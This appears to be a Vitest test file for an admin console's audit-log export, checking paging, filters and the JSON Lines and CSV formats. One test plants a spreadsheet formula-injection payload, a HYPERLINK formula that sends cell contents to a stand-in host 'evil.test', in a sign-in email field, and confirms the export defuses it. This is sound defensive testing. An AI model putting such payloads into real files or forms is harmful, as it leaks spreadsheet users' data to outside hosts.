import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestConsoleDb } from '@/lib/db/test-db';
import type { ConsoleDb } from '@/lib/db/types';
import { verifyStaffCredentials } from '@/lib/auth/credentials';
import { insertAudit } from '@/lib/auth/audit-entries';
import { auditExportStream } from './export';

/**
 * The audit export (docs/audit.md, "Export"): the filters honoured across page boundaries, newest first, each entry
 * once, read a page at a time, as JSON Lines and CSV. The route's filters and formats over HTTP: e2e/sso.spec.ts.
 */

let db: ConsoleDb;
let close: () => Promise<void>;
beforeAll(async () => {
  ({ db, close } = await openTestConsoleDb());
  const at = (minute: number) => new Date(Date.UTC(2026, 10, 2, 9, minute));
  for (let i = 0; i < 7; i++) {
    const actor = { id: null, email: `e${i}@example.com`, role: 'refund-desk' };
    await insertAudit(db, { action: 'export.kept', outcome: 'success', actor, target: `t${i}`, at: at(i) });
    // Around each kept entry, entries the filters leave out: another action, another outcome.
    await insertAudit(db, { action: 'export.other', outcome: 'success', actor: null, at: at(i) });
    await insertAudit(db, { action: 'export.kept', outcome: 'denied', actor: null, summary: { n: i }, at: at(i) });
  }
});
afterAll(() => close());

const read = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();

describe('the audit export', () => {
  it('streams the filtered log a page at a time, newest first, each entry once (JSON Lines)', async () => {
    let pages = 0;
    const stream = await auditExportStream(db, { action: 'export.kept', outcome: 'success' }, 'jsonl', {
      pageSize: 3,
      onComplete: (progress) => void (pages = progress.pages),
    });
    const rows = (await read(stream))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: number; action: string; outcome: string; target: string });
    expect(rows.map((r) => r.target)).toEqual(['t6', 't5', 't4', 't3', 't2', 't1', 't0']);
    expect(rows.every((r) => r.action === 'export.kept' && r.outcome === 'success')).toBe(true);
    expect(new Set(rows.map((r) => r.id)).size).toBe(7);
    expect(pages).toBe(3);
  });

  it('writes the same entries as CSV, a header first, the summary as one JSON cell', async () => {
    const text = await read(
      await auditExportStream(db, { action: 'export.kept', outcome: 'denied' }, 'csv', { pageSize: 2 }),
    );
    const lines = text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe(
      'id,at (UTC),actor_id,actor_email,actor_role,action,target,outcome,summary,api_request_id,ip',
    );
    expect(lines).toHaveLength(8);
    expect(lines.slice(1).every((line) => line.includes(',export.kept,') && line.includes(',denied,'))).toBe(true);
    expect(lines[1]).toContain('"{""n"":6}"');
  });

  it('defuses a formula planted on a later line of the sign-in email, unauthenticated, before it reaches the CSV', async () => {
    const planted = 'victim@example.com\n=HYPERLINK("http://evil.test/?"&A1,"open")\r@SUM(1)';
    expect(await verifyStaffCredentials(db, { email: planted, password: 'wrong', ip: '192.0.2.7' })).toMatchObject({
      ok: false,
    });
    const text = await read(await auditExportStream(db, { action: 'auth.sign_in' }, 'csv'));
    const row = text.slice(text.indexOf('\r\n') + 2);
    expect(row).toContain(`"victim@example.com\n'=hyperlink(""http://evil.test/?""&a1,""open"")\r'@sum(1)"`);
    // No line of the export, however a reader splits it, starts a formula.
    for (const line of text.replace(/^\uFEFF/, '').split(/[\r\n]+/)) expect(line).not.toMatch(/^[ ]*[=+\-@]/);
  });
});
